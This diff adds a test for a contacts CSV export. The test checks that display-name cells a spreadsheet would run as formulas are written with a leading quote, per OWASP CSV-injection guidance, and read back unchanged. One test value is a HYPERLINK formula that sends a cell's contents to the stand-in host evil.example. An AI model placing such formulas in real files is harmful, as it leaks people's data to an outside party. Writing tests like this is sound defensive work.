@@ -127,4 +127,27 @@ describe('GET /contacts/export', () => {
     expect(res.text).toBe(`${HEADER}\nU0EXP1,"Doe, Jane",+442079460958,jane@example.com,whatsapp;email,Europe/London\nU0EXP2,Bob,+14155550166,,whatsapp;voice;sms,\n`);
     expect(await importCsv('T-EXP', res.text)).toMatchObject({ imported: 0, unchanged: 2, skipped: 0 });
   });
+
+  it('writes a cell a spreadsheet would run as a formula with a leading quote (OWASP), numbers as they are, and reads its own file back unchanged', async () => {
+    // Names are copied from Slack display names, which anyone picks for themselves.
+    const names = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', '+SUM(1+1)', '-2+3', '@cmd', "'Tis Jane", "'=already quoted"];
+    for (const [i, name] of names.entries()) {
+      await upsertContact(harness.db, { tenantId: 'T-FORMULA', slackUserId: `U0CSV${i}`, source: 'import', name, phone: `+1415555017${i}` });
+    }
+    await upsertContact(harness.db, { tenantId: 'T-FORMULA', slackUserId: 'U0CSVMAIL', source: 'import', name: 'Plain', email: '-jane@example.com' });
+
+    const res = await request(harness.app).get('/contacts/export?tenant_id=T-FORMULA').set('x-service-key', SERVICE_KEY).expect(200);
+    expect(res.text.split('\n').slice(1, -1)).toEqual([
+      'U0CSV0,"\'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",+14155550170,,whatsapp;voice;sms,',
+      "U0CSV1,'+SUM(1+1),+14155550171,,whatsapp;voice;sms,",
+      "U0CSV2,'-2+3,+14155550172,,whatsapp;voice;sms,",
+      "U0CSV3,'@cmd,+14155550173,,whatsapp;voice;sms,",
+      "U0CSV4,'Tis Jane,+14155550174,,whatsapp;voice;sms,",
+      "U0CSV5,''=already quoted,+14155550175,,whatsapp;voice;sms,",
+      "U0CSVMAIL,Plain,,'-jane@example.com,whatsapp;voice;sms,",
+    ]);
+    expect(await importCsv('T-FORMULA', res.text)).toMatchObject({ imported: 0, unchanged: 7, skipped: 0 });
+    expect((await listContacts(harness.db, 'T-FORMULA')).map((c) => c.name)).toEqual([...names, 'Plain']);
+    expect(await findContact(harness.db, 'T-FORMULA', 'U0CSVMAIL')).toMatchObject({ email: '-jane@example.com' });
+  });
 });
